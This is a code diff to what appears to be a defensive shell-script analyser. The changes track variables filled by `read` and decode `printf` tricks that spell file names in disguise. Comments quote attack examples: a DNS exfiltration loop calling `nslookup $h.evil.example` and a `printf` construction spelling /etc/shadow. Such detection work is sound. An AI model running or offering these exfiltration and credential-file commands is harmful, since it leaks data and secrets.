@@ -232,6 +232,25 @@ def _unescape_dquoted(text: str) -> str:
 _Part = tuple[str, bool, bool]  # value, literal, disguised
 
 
+# the word-like nodes a statement's walk only looks into for substitutions
+_WORD_NODES = frozenset(
+    [
+        "word",
+        "string",
+        "concatenation",
+        "raw_string",
+        "number",
+        "simple_expansion",
+        "expansion",
+        "command_substitution",
+        "process_substitution",
+        "ansi_c_string",
+        "arithmetic_expansion",
+        "string_content",
+    ]
+)
+
+
 class _Walker:
     def __init__(self) -> None:
         self.script = Script()
@@ -271,27 +290,16 @@ class _Walker:
             if unrolled is not None:
                 return unrolled
         found: list[SimpleCommand] = []
+        is_for = t == "for_statement"
         for i, child in enumerate(node.children):
-            if child.type == "&" and t in ("program", "list", "compound_statement"):
+            ctype = child.type
+            if ctype == "&" and t in ("program", "list", "compound_statement"):
                 self.script.backgrounded = True
-            if node.field_name_for_child(i) == "value" and t == "for_statement":
+            if is_for and node.field_name_for_child(i) == "value":
                 self.word(child)
                 self._carry(node, child)
                 continue
-            if child.type in (
-                "word",
-                "string",
-                "concatenation",
-                "raw_string",
-                "number",
-                "simple_expansion",
-                "expansion",
-                "command_substitution",
-                "process_substitution",
-                "ansi_c_string",
-                "arithmetic_expansion",
-                "string_content",
-            ):
+            if ctype in _WORD_NODES:
                 self._substitutions(child)
                 continue
             found.extend(self.walk(child))
@@ -494,6 +502,7 @@ class _Walker:
             cmd.stdin_text, cmd.stdin_script_quoted = stdin
         self.script.commands.append(cmd)
         self._track_cd(cmd)
+        self.carried.update(_read_variables(cmd))
         for extra in rest:
             self.walk(extra)
         return cmd
@@ -543,6 +552,8 @@ class _Walker:
     # ---- words ------------------------------------------------------------------------
     def _substitutions(self, node: tree_sitter.Node) -> None:
         """Walk the commands that run while a word is expanded."""
+        if not node.child_count:  # a leaf (most words): nothing runs
+            return
         if node.type in ("command_substitution", "process_substitution"):
             start = len(self.script.commands)
             saved_cwd = self.cwd
@@ -570,15 +581,16 @@ class _Walker:
 
     def word(self, node: tree_sitter.Node) -> Word:
         self._substitutions(node)
-        value, literal, disguised = self._part(node)
         raw = _text(node)
+        value, literal, disguised = self._part(node, raw)
         if literal and not disguised and value != raw and node.type != "number":
             disguised = True
         return Word(value, raw, literal, disguised)
 
-    def _part(self, node: tree_sitter.Node) -> _Part:
+    def _part(self, node: tree_sitter.Node, raw: str | None = None) -> _Part:
         t = node.type
-        raw = _text(node)
+        if raw is None:
+            raw = _text(node)
         if t == "word":
             value = _unescape_unquoted(raw)
             return _expand_braces(value), True, value != raw
@@ -646,9 +658,13 @@ class _Walker:
         if len(inner) == 1 and inner[0].type == "command":
             parts = [self._part(c) for c in inner[0].children if c.is_named]
             if parts and parts[0][0] in ("echo", "printf") and all(p[1] for p in parts[1:]):
-                text = " ".join(p[0] for p in parts[1:] if not p[0].startswith("-"))
-                if parts[0][0] == "printf" or any(p[0] in ("-e", "-ne", "-en") for p in parts):
-                    text = decode_ansi_c(text)  # `$(printf '\163\150…')` spells a name
+                args = [p[0] for p in parts[1:]]
+                if parts[0][0] == "printf" and args and not args[0].startswith("-"):
+                    # `$(printf '/etc/%s' shadow)`, `$(printf '\163\150…')` spell a name
+                    return _printf(decode_ansi_c(args[0]), args[1:]).rstrip("\n"), False, True
+                text = " ".join(a for a in args if not a.startswith("-"))
+                if parts[0][0] == "printf" or any(a in ("-e", "-ne", "-en") for a in args):
+                    text = decode_ansi_c(text)
                 return text, False, True
         return "", False, True
 
@@ -712,3 +728,55 @@ def _split_words(words: list[Word]) -> list[Word]:
 
 def iter_commands(script: Script) -> Iterator[SimpleCommand]:
     yield from script.commands
+
+
+_READ_VALUE_OPTS = frozenset(["-p", "-d", "-n", "-N", "-t", "-u", "-i"])
+_IDENTIFIER = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
+
+
+def _read_variables(cmd: SimpleCommand) -> list[str]:
+    """`read [-r] [-a ARR] NAME…`: the variables it fills with input — data, not names
+    (`… | while read h; do nslookup $h.evil.example; done` sends the data in the name)."""
+    words = [w.value for w in cmd.words]
+    if not words or words[0] != "read":
+        return []
+    found: list[str] = []
+    i = 1
+    while i < len(words):
+        w = words[i]
+        if w in _READ_VALUE_OPTS:
+            i += 2
+            continue
+        if w == "-a" and i + 1 < len(words):
+            found.append(words[i + 1])
+            i += 2
+            continue
+        if not w.startswith("-") and _IDENTIFIER.fullmatch(w):
+            found.append(w)
+        i += 1
+    return found
+
+
+_PRINTF_SPEC = re.compile(r"%(%|[-+ #0]*\d*(?:\.\d+)?([sbdiuxXoc]))")
+
+
+def _printf(fmt: str, args: list[str]) -> str:
+    """What `printf FMT ARGS…` prints, for the conversions a path is spelt with (`%s`, `%b`,
+    `%d`, `%c`…; the format is reused while arguments remain, as bash does). Bounded."""
+    out: list[str] = []
+    rest = list(args)
+    for _ in range(64):
+        used = False
+
+        def conv(m: re.Match[str]) -> str:
+            nonlocal used
+            if m.group(1) == "%":
+                return "%"
+            used = True
+            arg = rest.pop(0) if rest else ""
+            return arg[:1] if m.group(2) == "c" else arg
+
+        out.append(_PRINTF_SPEC.sub(conv, fmt))
+        if not rest or not used:
+            break
+    return "".join(out)[:4096]
